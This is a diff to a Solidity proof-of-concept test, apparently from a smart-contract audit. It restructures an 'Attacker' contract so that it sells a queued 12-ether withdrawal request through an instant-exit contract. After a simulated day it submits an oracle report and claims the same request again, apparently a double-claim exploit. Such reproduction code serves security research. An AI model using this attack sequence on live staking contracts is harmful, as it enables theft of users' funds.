@@ -5,21 +5,24 @@ pragma solidity 0.8.30;
 import "../Base.sol";
 
 contract Attacker {
-    function run(
-        StakeToken token,
-        WithdrawalQueue queue,
-        StakePool pool,
-        InstantExit exit,
-        ReportOracle oracle,
-        IReports.Report calldata report,
-        bytes[] calldata signatures
-    ) external {
+    uint256 private id;
+
+    function trade(StakeToken token, WithdrawalQueue queue, InstantExit exit) external {
         token.approve(address(queue), type(uint256).max);
-        uint256 id = queue.request(12 ether, address(this));
+        id = queue.request(12 ether, address(this));
         queue.setOperator(address(exit), true);
         queue.approve(address(this), id);
         exit.sellRequest(id, 0);
         try queue.transferRequest(address(exit), address(this), id) {} catch {}
+    }
+
+    function run(
+        WithdrawalQueue queue,
+        StakePool pool,
+        ReportOracle oracle,
+        IReports.Report calldata report,
+        bytes[] calldata signatures
+    ) external {
         oracle.submit(report, signatures);
         pool.finalize(1);
         try queue.claim(id, queue.findHint(id), address(this)) {} catch {}
@@ -39,7 +42,9 @@ contract Proof is Base {
     }
 
     function exploit() public {
-        other.run(token, queue, pool, exit, oracle, _report(3, 0, 0), signatures);
+        other.trade(token, queue, exit);
+        vm.warp(block.timestamp + 1 days);
+        other.run(queue, pool, oracle, _report(3, 0, 0), signatures);
     }
 
     function test_Exploit() public {
